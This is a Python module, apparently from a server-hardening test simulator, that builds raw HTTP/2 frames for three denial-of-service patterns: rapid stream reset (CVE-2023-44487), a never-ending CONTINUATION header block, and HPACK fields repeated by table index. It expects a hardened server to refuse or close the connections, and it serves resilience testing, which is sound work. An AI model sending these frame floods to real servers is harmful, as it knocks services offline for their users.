"""Streams of HTTP/2 that are opened and reset at once: the work of a request without ever holding a stream."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, ClassVar

from simulator.attacks.script import Wire
from simulator.attacks.strain import HOSTILE, Strain, refusing
from simulator.contract.profiles import Basis
from simulator.limits import REPEATED_FIELDS, RESET_STREAMS_MAX, UNFINISHED_BLOCK_FRAMES

if TYPE_CHECKING:
    from collections.abc import Iterator

    from simulator.attacks.script import ScriptContext

CONNECTIONS = 4
BATCH = 100
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
"""Types of frames (RFC 9113 §6)."""
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
GET, HTTPS, PATH, AUTHORITY = b"\x82", b"\x87", b"\x04", b"\x01"
"""Fields of the static table (RFC 7541 §A): two whole, and the names of two whose values follow."""


FRAME_BYTES = 16_000
FIRST_IN_TABLE = b"\xbe"
"""The field that was put in the table last (RFC 7541 §2.3.3)."""
LONG_TEXT = b"\x7f\xa1\x1e" + b"b" * 4_000
"""A string literal of 4,000 bytes, which with its name and overhead is what a table of 4,096 has room for."""


class RapidReset(Strain):
    """Requests that are taken back as soon as they are made."""

    name = "strain.rapid-reset"
    basis = Basis.HARDENED
    shape = (
        f"{RESET_STREAMS_MAX:,} streams on each of {CONNECTIONS} HTTP/2 connections, opened and reset at once; on as "
        f"many, a header block in {UNFINISHED_BLOCK_FRAMES:,} pieces that never ends; on as many, one that repeats a "
        f"long field {REPEATED_FIELDS:,} times by its number"
    )
    verdict = "closed, or taken for what they cost"
    anchor = "CVE-2023-44487; RFC 9113 §10.5"
    needs_http2 = True
    streams: ClassVar[int] = RESET_STREAMS_MAX

    def held(self, context: ScriptContext) -> list[Wire]:
        """Open and reset as fast as it is read; the client is known by one address."""
        authority = context.host.encode()
        start = PREFACE + _frame(SETTINGS, 0, 0, b"")
        shots = (
            (tuple(_streams(authority, self.streams)), "so many streams are no client's"),
            ((_unfinished(authority),), "the block never ends"),
            ((_repeated(authority),), "its fields are more than a head may have"),
        )
        return [
            Wire(
                tuple((part, 0.0) for part in (start, *parts)),
                refusing(because=because),
                patience_seconds=self.seconds,
                client=HOSTILE,
                http2=True,
            )
            for parts, because in shots
            for _ in range(CONNECTIONS)
        ]


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Write a frame (RFC 9113 §4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: bytes) -> bytes:
    """Write a string literal of fewer than 127 bytes, without Huffman coding (RFC 7541 §5.2)."""
    return bytes((len(value),)) + value


def _head(authority: bytes) -> bytes:
    """Write the header block of a request."""
    return GET + HTTPS + PATH + _text(b"/health") + AUTHORITY + _text(authority)


def _unfinished(authority: bytes) -> bytes:
    """Write a header block that goes on, a byte at a time, and never ends."""
    begun = _frame(HEADERS, END_STREAM, 1, _head(authority))
    return begun + _frame(CONTINUATION, 0, 1, GET) * UNFINISHED_BLOCK_FRAMES


def _repeated(authority: bytes) -> bytes:
    """Write a header block that puts a long field in the table, and brings it back again and again."""
    block = _head(authority) + b"\x40" + _text(b"a") + LONG_TEXT + FIRST_IN_TABLE * REPEATED_FIELDS
    pieces = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    first, *others = pieces
    frames = [_frame(HEADERS, END_STREAM, 1, first), *(_frame(CONTINUATION, 0, 1, piece) for piece in others)]
    return b"".join(frames) + _frame(CONTINUATION, END_HEADERS, 1, b"")


def _streams(authority: bytes, count: int) -> Iterator[bytes]:
    """Write so many streams in batches, each opened and reset."""
    block = _head(authority)
    reset = struct.pack(">I", CANCEL)
    for first in range(0, count, BATCH):
        numbers = (2 * number + 1 for number in range(first, first + BATCH))
        yield b"".join(
            _frame(HEADERS, END_STREAM | END_HEADERS, number, block) + _frame(RST_STREAM, 0, number, reset)
            for number in numbers
        )
